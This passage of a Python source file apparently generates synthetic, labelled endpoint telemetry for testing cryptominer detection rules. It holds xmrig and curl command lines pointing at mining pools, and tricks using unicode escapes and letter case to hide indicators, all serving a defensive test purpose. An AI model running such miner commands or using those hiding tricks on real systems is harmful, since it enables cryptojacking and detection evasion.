        port: str | int = self.pick(_WIN_PORTS if host.platform == "Win" else _LIN_PORTS)
        remote = self.public4() if port in ("443", "80", "8443") else self.private4()
        if self.random() < 0.005:
            remote = f"{self.bits(8)}.{self.bits(8)}.{256 + self.bits(9)}.{self.bits(8)}"  # invalid
        if self.random() < 0.04:
            port = int(port)
        return _encode(self.network(host, remote, port)), ()

    def _benign_network6(self) -> _Line:
        host = self.host()
        remote = self.public6() if self.random() < 0.7 else self.private6()
        port = "443" if self.random() < 0.8 else "80"
        return _encode(self.network(host, remote, port, v6=True)), ()

    def _listen4(self) -> _Line:
        host = self.host()
        obj = self.network(host, "0.0.0.0", "0", direction="1", simple="NetworkListenIP4")
        obj["LocalPort"] = self.pick(("445", "135", "22", "8080", "5985", "3389", "9100"))
        return _encode(obj), ()

    def _accept4(self) -> _Line:
        host = self.host()
        obj = self.network(
            host, self.private4(), str(49152 + self.bits(14)), direction="1",
            simple="NetworkReceiveAcceptIP4",
        )  # fmt: skip
        obj["LocalPort"] = self.pick(("445", "22", "443", "3389"))
        return _encode(obj), ()

    def dns(self, host: _Host, domain: str, *, proc: _Proc | None = None) -> Obj:
        obj = self.head(host, "DnsRequest", "V5" if host.platform == "Win" else "V1")
        p = proc if proc is not None else self.context_proc(host)
        obj["ContextProcessId"] = p.tpid
        obj["ContextTimeStamp"] = self.ctx_time()
        obj["ContextThreadId"] = str(self.bits(36))
        if p.base and host.platform == "Win" and self.random() < 0.6:
            obj["ContextBaseFileName"] = p.base
        obj["DomainName"] = domain
        r = self.random()
        obj["RequestType"] = "1" if r < 0.7 else ("28" if r < 0.92 else "5")
        obj["DualRequest"] = "0"
        return self.tail(host, obj)

    def _benign_dns(self) -> _Line:
        host = self.host()
        domain = self.pick(_DOMAINS)
        if "{N}" in domain:
            domain = domain.replace("{N}", str(self.bits(8)))
        return _encode(self.dns(host, domain)), ()

    # -- other event types no rule looks at --------------------------------------------------

    def _heartbeat(self) -> _Line:
        host = self.host()
        obj = self.head(host, "SensorHeartbeat", "V4")
        if self.random() < 0.5:
            obj["ComputerName"] = host.computer
        obj["SensorStateBitMap"] = "0"
        obj["NetworkContainmentState"] = "0"
        obj["AgentLocalTime"] = self.ctx_time()
        return _encode(self.tail(host, obj)), ()

    def _user_logon(self) -> _Line:
        host = self.host()
        obj = self.head(host, "UserLogon", "V11")
        obj["UserName"] = self.pick(host.users)
        obj["UserSid"] = (
            f"S-1-5-21-{self.bits(30)}-{self.bits(30)}-{self.bits(30)}-{1000 + self.bits(8)}"
        )
        obj["LogonType"] = self.pick(("2", "3", "10", "11"))
        obj["LogonDomain"] = "CORP"
        obj["LogonServer"] = "DC01"
        obj["AuthenticationId"] = str(self.bits(28))
        obj["LogonTime"] = self.ctx_time()
        obj["UserIsAdmin"] = "1" if self.random() < 0.2 else "0"
        if self.random() < 0.6:
            obj["ComputerName"] = host.computer
        return _encode(self.tail(host, obj)), ()

    def _image_hash(self) -> _Line:
        host = self.host()
        obj = self.head(host, "ImageHash", "V4")
        p = self.context_proc(host)
        obj["ContextProcessId"] = p.tpid
        obj["ContextTimeStamp"] = self.ctx_time()
        dll = "\\Windows\\System32\\" + self.pick(
            ("ntdll.dll", "kernel32.dll", "crypt32.dll", "winhttp.dll")
        )
        name = (
            f"\\Device\\HarddiskVolume{host.volume}{dll}"
            if host.platform == "Win"
            else "/usr/lib/x86_64-linux-gnu/libssl.so.3"
        )
        obj["ImageFileName"] = name
        sha, md5 = self.image_hashes(name)
        obj["SHA256HashData"] = sha
        obj["MD5HashData"] = md5
        return _encode(self.tail(host, obj)), ()

    def _new_executable_written(self, name: str | None = None) -> _Line:
        host = self.host()
        obj = self.head(host, "NewExecutableWritten", "V6")
        p = self.context_proc(host)
        obj["ContextProcessId"] = p.tpid
        obj["ContextTimeStamp"] = self.ctx_time()
        if name is None:
            name = self.pick(("setup.exe", "update.exe", "ChromeSetup.exe", "tool-v2.1.exe"))
        obj["TargetFileName"] = (
            f"\\Device\\HarddiskVolume{host.volume}\\Users\\{self.pick(host.users)}\\Downloads\\{name}"
        )
        obj["FileName"] = name
        obj["IsOnRemovableDisk"] = "0"
        return _encode(self.tail(host, obj)), ()

    def _process_blocked(self) -> _Line:
        host = self.host()
        obj = self.head(host, "ProcessBlocked", "V4")
        obj["ImageFileName"] = (
            "\\Device\\HarddiskVolume2\\Users\\Public\\Downloads\\invoice_viewer.exe"
        )
        obj["CommandLine"] = '"C:\\Users\\Public\\Downloads\\invoice_viewer.exe" /s'
        obj["TargetProcessId"] = str(4_000_000_000 + self.bits(36))
        obj["PolicyRuleId"] = str(self.bits(8))
        return _encode(self.tail(host, obj)), ()

    # -- malicious scenarios (every line listed with its rules) -----------------------------

    def host_of(self, platform: str) -> _Host:
        for _ in range(64):
            h = self.host()
            if h.platform == platform:
                return h
        return self.host()

    def miner_proc(
        self, host: _Host, image: str, cmd: str, parent: str, container: bool
    ) -> tuple[_Line, _Proc]:
        obj = self.process(host, image, cmd, parent, container=container)
        return self.trapped(obj, RULE_MINER_PROCESS), self.last_proc

    def trapped(self, obj: Obj, rule: str) -> _Line:
        """Encodes a malicious event, sometimes with an encoding trap in the matching field."""
        raw = _encode(obj)
        r = self.random()
        if r < 0.4:
            return raw, (rule,)
        if rule == RULE_MINER_PROCESS:
            cmd = str(obj["CommandLine"])
            image = str(obj["ImageFileName"])
            if r < 0.75 and "://" in cmd:
                raw = _escape_slashes(raw, "CommandLine", cmd)
            else:
                needles = [
                    ("ImageFileName", image, s) for s in MINER_IMAGE_STRINGS if s in image.lower()
                ]
                needles += [
                    ("CommandLine", cmd, s) for s in MINER_CMDLINE_STRINGS if s in cmd.lower()
                ]
                fld, value, needle = needles[int(self.random() * len(needles))]
                raw = self.unicode_escape(raw, fld, value, needle)
        elif rule == RULE_POOL_DNS:
            domain = str(obj["DomainName"])
            needle = next(s for s in POOL_DOMAIN_STRINGS if s in domain.lower())
            raw = self.unicode_escape(raw, "DomainName", domain, needle)
        else:
            fld = "RemoteAddressIP4" if "RemoteAddressIP4" in obj else "RemoteAddressIP6"
            addr = str(obj[fld])
            raw = self.unicode_escape(raw, fld, addr, addr)
        _check_roundtrip(raw, obj)
        return raw, (rule,)

    def unicode_escape(self, raw: str, fld: str, value: str, needle: str) -> str:
        start = value.lower().index(needle)
        i = start + int(self.random() * len(needle))
        enc = encode_basestring(value)
        esc = f"\\u{ord(value[i]):04x}"
        if self.random() < 0.3:
            esc = "\\u" + esc[2:].upper()
        new = encode_basestring(value[:i])[:-1] + esc + encode_basestring(value[i + 1 :])[1:]
        return _replace_field(raw, fld, enc, new)

    def case_variant(self, s: str, indicators: Sequence[str] = ()) -> str:
        """Sometimes changes the letter case of s, or only of the indicators found in it."""
        r = self.random()
        if r < 0.7:
            return s
        if indicators:
            low = s.lower()
            for needle in indicators:
                i = low.find(needle)
                if i >= 0:
                    s = (
                        s[:i]
                        + self.case_variant_word(s[i : i + len(needle)], r)
                        + s[i + len(needle) :]
                    )
            return s
        return self.case_variant_word(s, r)

    def case_variant_word(self, s: str, r: float) -> str:
        if r < 0.85:
            return s.upper()
        return "".join(c.upper() if self.bits(1) else c.lower() for c in s)

    def pool_remote(self, v6: bool) -> str:
        if v6:
            return self.public6() if self.random() < 0.8 else self.pick(_BOUNDARY_PUBLIC_V6)
        return self.public4() if self.random() < 0.85 else self.pick(_BOUNDARY_PUBLIC_V4)

    def pool_port(self) -> str | int:
        port = POOL_PORTS[int(self.random() * len(POOL_PORTS))]
        return port if self.random() < 0.3 else str(port)

    def pool_connection(self, host: _Host, proc: _Proc | None, *, v6: bool = False) -> _Line:
        if proc is None:
            proc = self.context_proc(host, no_browser=True)
            if proc.browser:  # only browsers seen on this host: link to an unseen process
                proc = _Proc(str(1_000_000_000 + self.bits(33)), "", "", False)
        r = self.random()
        direction = "0" if r < 0.8 else ("1" if r < 0.9 else "2")
        obj = self.network(
            host, self.pool_remote(v6), self.pool_port(), v6=v6, proc=proc, direction=direction
        )
        return self.trapped(obj, RULE_POOL_CONNECTION)

    def pool_dns(self, host: _Host, proc: _Proc | None, domain: str | None = None) -> _Line:
        if domain is None:
            domain = self.pick(_POOL_DOMAINS)
        obj = self.dns(host, self.case_variant(domain), proc=proc)
        return self.trapped(obj, RULE_POOL_DNS)

    def _mal_container_xmrig(self) -> list[_Line]:
        host = self.host_of("Lin")
        image = self.case_variant(self.pick(_LIN_MINER_IMAGES), MINER_IMAGE_STRINGS)
        args = self.case_variant(self.pick(_MINER_ARGS_WITH_POOL), MINER_CMDLINE_STRINGS)
        cmd = f"{image} {args}"
        parent = self.pick(("containerd-shim-runc-v2", "runc", "conmon", "sh"))
        line, proc = self.miner_proc(host, image, cmd, parent, True)
        return [line, self.pool_dns(host, proc), self.pool_connection(host, proc)]

    def _mal_curl_pool(self) -> list[_Line]:
        host = self.host_of("Lin")
        domain = self.pick(("pool.minexmr.com", "pool.supportxmr.com", "xmr-eu1.nanopool.org"))
        port = self.pick(("3333", "4444", "14444"))
        cmd = f"curl -s http://{self.case_variant(domain)}:{port}"
        line, proc = self.miner_proc(
            host, "/usr/bin/curl", cmd, self.pick(("bash", "sh")), self.random() < 0.5
        )
        return [line, self.pool_dns(host, proc, domain), self.pool_connection(host, proc)]

    def _mal_windows_miner(self) -> list[_Line]:
        host = self.host_of("Win")
        user = self.pick(host.users)
        rel = self.case_variant(self.pick(_WIN_MINER_IMAGES), MINER_IMAGE_STRINGS)
        rel = rel.replace("{U}", user)
        image = self.win_image(host, rel)
        args = (
            self.pick(_MINER_ARGS_WITH_POOL)
            if self.random() < 0.6
            else self.pick(_MINER_ARGS_BENIGN_LOOKING)
        )
        cmd = f'"C:\\{rel}" {args}'
        line, proc = self.miner_proc(
            host, image, cmd, self.pick(("explorer.exe", "cmd.exe", "wscript.exe")), False
        )
        lines = [line]
        if self.random() < 0.6:
            lines.append(self.pool_connection(host, proc))
        return lines

    def _mal_cmd_only(self) -> list[_Line]:
        if self.random() < 0.6:
            host = self.host_of("Lin")
            image, cmd = _LIN_CMD_ONLY[int(self.random() * len(_LIN_CMD_ONLY))]
            parent = self.pick(("bash", "sh", "containerd-shim-runc-v2", "cron"))
            container = self.random() < 0.5
        else:
            host = self.host_of("Win")
            rel, cmd = _WIN_CMD_ONLY[int(self.random() * len(_WIN_CMD_ONLY))]
            image = self.win_image(host, rel)
            parent = self.pick(("cmd.exe", "wmiprvse.exe", "svchost.exe"))
            container = False
        cmd = self.fill(cmd, host)
        simple = "SyntheticProcessRollup2" if self.random() < 0.2 else "ProcessRollup2"
        obj = self.process(host, image, cmd, parent, simple=simple, container=container)
        return [self.trapped(obj, RULE_MINER_PROCESS)]

    def _mal_image_only(self) -> list[_Line]:
        host = self.host_of("Lin")
        image = self.case_variant(self.pick(_LIN_MINER_IMAGES), MINER_IMAGE_STRINGS)
        cmd = f"{_basename(image)} {self.pick(_MINER_ARGS_BENIGN_LOOKING)}"
        simple = "SyntheticProcessRollup2" if self.random() < 0.3 else "ProcessRollup2"
        obj = self.process(
            host, image, cmd, self.pick(("bash", "runc")), simple=simple, container=True
        )
        return [self.trapped(obj, RULE_MINER_PROCESS)]

    def _mal_dns_only(self) -> list[_Line]:
        host = self.host()
        return [self.pool_dns(host, None)]

    def _mal_network_only(self) -> list[_Line]:
        host = self.host()
        return [self.pool_connection(host, None)]

    def _mal_network6(self) -> list[_Line]:
        host = self.host()
        return [self.pool_connection(host, None, v6=True)]

    # -- hard negatives (no rule may alert on these) -----------------------------------------

    def _hard_private_pool_port(self) -> list[_Line]:
        host = self.host()
        port = self.pool_port()
        return [(_encode(self.network(host, self.private4(), port)), ())]

    def _hard_private_pool_port6(self) -> list[_Line]:
        host = self.host()
        return [(_encode(self.network(host, self.private6(), self.pool_port(), v6=True)), ())]

    def _hard_public_other_port(self) -> list[_Line]:
        host = self.host()
        v6 = self.random() < 0.25
        remote = self.public6() if v6 else self.public4()
        if not v6 and self.random() < 0.1:
            remote = f"{self.bits(8)}.{256 + self.bits(9)}.{self.bits(8)}.3333"  # invalid address
        port: str | int = self.pick(_NON_POOL_PORTS)
        if self.random() < 0.3:
            port = int(port)
        return [(_encode(self.network(host, remote, port, v6=v6)), ())]

    def _hard_portlike_cmdline(self) -> list[_Line]:
        if self.random() < 0.7:
            host = self.host_of("Lin")
            image, cmd = _PORTLIKE_CMDS_LIN[int(self.random() * len(_PORTLIKE_CMDS_LIN))]
            parent = self.pick(("bash", "sudo"))
        else:
            host = self.host_of("Win")
            rel, cmd = _PORTLIKE_CMDS_WIN[int(self.random() * len(_PORTLIKE_CMDS_WIN))]
            image = self.win_image(host, rel)
            parent = "cmd.exe"
        return [(_encode(self.process(host, image, cmd, parent)), ())]

    def _hard_near_miss_dns(self) -> list[_Line]:
        host = self.host()
        domain = self.case_variant(self.pick(_NEAR_MISS_DOMAINS))
        return [(_encode(self.dns(host, domain)), ())]

    def _hard_strings_in_other_fields(self) -> list[_Line]:
        host = self.host()
        r = self.random()
        if r < 0.35:  # a DnsRequest with a command line field: not a process event
            obj = self.dns(host, self.pick(_DOMAINS[:17]))
            obj["CommandLine"] = (
                f"/tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {_WALLET}"
            )
            obj["ContextBaseFileName"] = "xmrig"
        elif r < 0.7:  # pool names in fields the network rule does not test
            obj = self.network(host, self.public4(), "443")
            obj["ComputerName"] = "supportxmr-relay-01"
            obj["ContextBaseFileName"] = "xmrig.exe"
        else:  # the miner is the parent, not the image
            if host.platform == "Win":
                image = self.win_image(host, r"Windows\System32\cmd.exe")
                cmd = r"cmd.exe /c whoami"
            else:
                image, cmd = "/usr/bin/sh", "sh -c nproc"
            obj = self.process(host, image, cmd, self.pick(("xmrig", "xmrig.exe", "cpuminer")))
            obj["GrandParentBaseFileName"] = "xmrig"
        return [(_encode(obj), ())]

    def _hard_wrong_event_type(self) -> list[_Line]:
        host = self.host()
        r = self.random()
        if r < 0.35:  # Falcon blocked the miner: the process never ran
            obj = self.head(host, "ProcessBlocked", "V4")
            obj["ImageFileName"] = "/tmp/.x/xmrig"
            obj["CommandLine"] = (
                "/tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1"
            )
            obj["TargetProcessId"] = str(4_000_000_000 + self.bits(36))
            obj["PolicyRuleId"] = "7"
            return [(_encode(self.tail(host, obj)), ())]
        if r < 0.6:
            return [
                self._new_executable_written(
                    self.pick(("xmrig.exe", "cpuminer-avx2.exe", "nbminer.exe"))
                )
            ]
        if r < 0.8:  # an inbound accept from a public address on a pool port
            obj = self.network(
                host, self.public4(), self.pool_port(), direction="1",
                simple="NetworkReceiveAcceptIP4",
            )  # fmt: skip
            return [(_encode(obj), ())]
        obj = self.network(host, "0.0.0.0", "0", direction="1", simple="NetworkListenIP4")
        obj["LocalPort"] = self.pick(("3333", "4444", "14444"))
        return [(_encode(obj), ())]

    def _hard_runtime_wget_loopback(self) -> list[_Line]:
        host = self.host_of("Lin")
        cmd = "wget -q -O- http://127.0.0.1:3333/"
        obj = self.process(
            host,
            "/usr/bin/wget",
            cmd,
            self.pick(("runc", "containerd-shim-runc-v2")),
            container=True,
        )
        net = self.network(host, "127.0.0.1", "3333", proc=self.last_proc, direction="0")
        return [(_encode(obj), ()), (_encode(net), ())]

    # -- the stream --------------------------------------------------------------------------

    def lines(self, n_events: int) -> Iterator[_Line]:
        random = self.random
        pending = self.pending
        cum = self.benign_cum
        fns = self.benign_fns
        total = self.benign_total
        p_mal = self.p_malicious
        p_hard = self.p_hard
        for _ in range(n_events):
            if pending:
                yield pending.pop()
                continue
            u = random()
            if u < p_hard:
                scenarios = self.malicious_scenarios if u < p_mal else self.hard_scenarios
                batch = scenarios[int(random() * len(scenarios))]()
                batch.reverse()
                pending.extend(batch)
                yield pending.pop()
                continue
            yield fns[bisect(cum, random() * total)]()


def _replace_field(raw: str, fld: str, enc: str, new: str) -> str:
    key = f'"{fld}":{enc}'
    if key not in raw:
        raise RuntimeError(f"corpus trap: field {fld} not found in {raw[:200]}")
    return raw.replace(key, f'"{fld}":{new}', 1)


def _escape_slashes(raw: str, fld: str, value: str) -> str:
    enc = encode_basestring(value)
    return _replace_field(raw, fld, enc, enc.replace("/", "\\/"))


def generate_falcon(
    n_events: int, *, seed: int = 0, malicious_rate: float = 0.001
) -> Iterator[LabelledLine]:
    """Yields n_events labelled Falcon FDR lines; the same arguments give the same bytes."""
    if n_events < 0:
        raise ValueError(f"n_events must be >= 0, got {n_events}")
    for text, rules in _Falcon(seed, malicious_rate).lines(n_events):
        yield LabelledLine(text.encode(), rules)


class _HashingWriter:
    """A binary sink that hashes and counts everything written through it."""

    def __init__(self, fh: BinaryIO) -> None:
        self.fh = fh
        self.hash = hashlib.sha256()
        self.size = 0

    def write(self, data: bytes) -> int:
        self.hash.update(data)
        self.size += len(data)
        return self.fh.write(data)

    def flush(self) -> None:
        self.fh.flush()


_BATCH_LINES = 2048


def write_corpus(
    path: Path,
    n_events: int,
    *,
    seed: int = 0,
    malicious_rate: float = 0.001,
    compression: Literal["zstd", "gzip", "none"] = "zstd",
    labels_path: Path | None = None,
    frame_lines: int | None = None,
) -> CorpusInfo:
    """Streams a labelled corpus to path (and its labels as JSON Lines to labels_path).

    frame_lines, with zstd, starts a new zstd frame every that many lines.
    """
    if n_events < 0:
        raise ValueError(f"n_events must be >= 0, got {n_events}")
    if frame_lines is not None and frame_lines <= 0:
        raise ValueError(f"frame_lines must be > 0, got {frame_lines}")
    if compression not in ("zstd", "gzip", "none"):
        raise ValueError(f"unknown compression {compression!r}")
    gen = _Falcon(seed, malicious_rate)
    path.parent.mkdir(parents=True, exist_ok=True)
    if labels_path is not None:
        labels_path.parent.mkdir(parents=True, exist_ok=True)
    by_rule: dict[str, int] = {}
    malicious = 0
    decompressed = 0
    line_no = 0
    with ExitStack() as stack:
        sink = _HashingWriter(stack.enter_context(path.open("wb")))
        labels_fh = None
        if labels_path is not None:
            labels_fh = stack.enter_context(labels_path.open("w", encoding="utf-8", newline="\n"))
        zwriter = None
        write: Callable[[bytes], int]
        if compression == "zstd":
            cctx = zstandard.ZstdCompressor(level=3, write_checksum=True)
            zwriter = stack.enter_context(cctx.stream_writer(cast(BinaryIO, sink), closefd=False))
            write = zwriter.write
        elif compression == "gzip":
            gz = gzip.GzipFile(filename="", mode="wb", fileobj=sink, mtime=0, compresslevel=6)
            write = stack.enter_context(gz).write
        else:
            write = sink.write
        step = _BATCH_LINES if frame_lines is None else min(_BATCH_LINES, frame_lines)
        it = gen.lines(n_events)
        batch: list[str] = []
        while line_no < n_events:
            if zwriter is not None and frame_lines and line_no and line_no % frame_lines == 0:
                zwriter.flush(zstandard.FLUSH_FRAME)
            take = min(step, n_events - line_no)
            if frame_lines is not None:
                take = min(take, frame_lines - line_no % frame_lines)
            batch.clear()
            for _ in range(take):
                text, rules = next(it)
                line_no += 1
                batch.append(text)
                if rules:
                    malicious += 1
                    for rule in rules:
                        by_rule[rule] = by_rule.get(rule, 0) + 1
                    if labels_fh is not None:
                        labels_fh.write(json.dumps({"line": line_no, "rules": list(rules)}) + "\n")
            batch.append("")
            data = "\n".join(batch).encode()
            decompressed += len(data)
            write(data)
    return CorpusInfo(
        path=path,
        events=n_events,
        malicious=malicious,
        bytes_decompressed=decompressed,
        sha256=sink.hash.hexdigest(),
        bytes_compressed=sink.size,
        by_rule=tuple(sorted(by_rule.items())),
        labels_path=labels_path,
    )
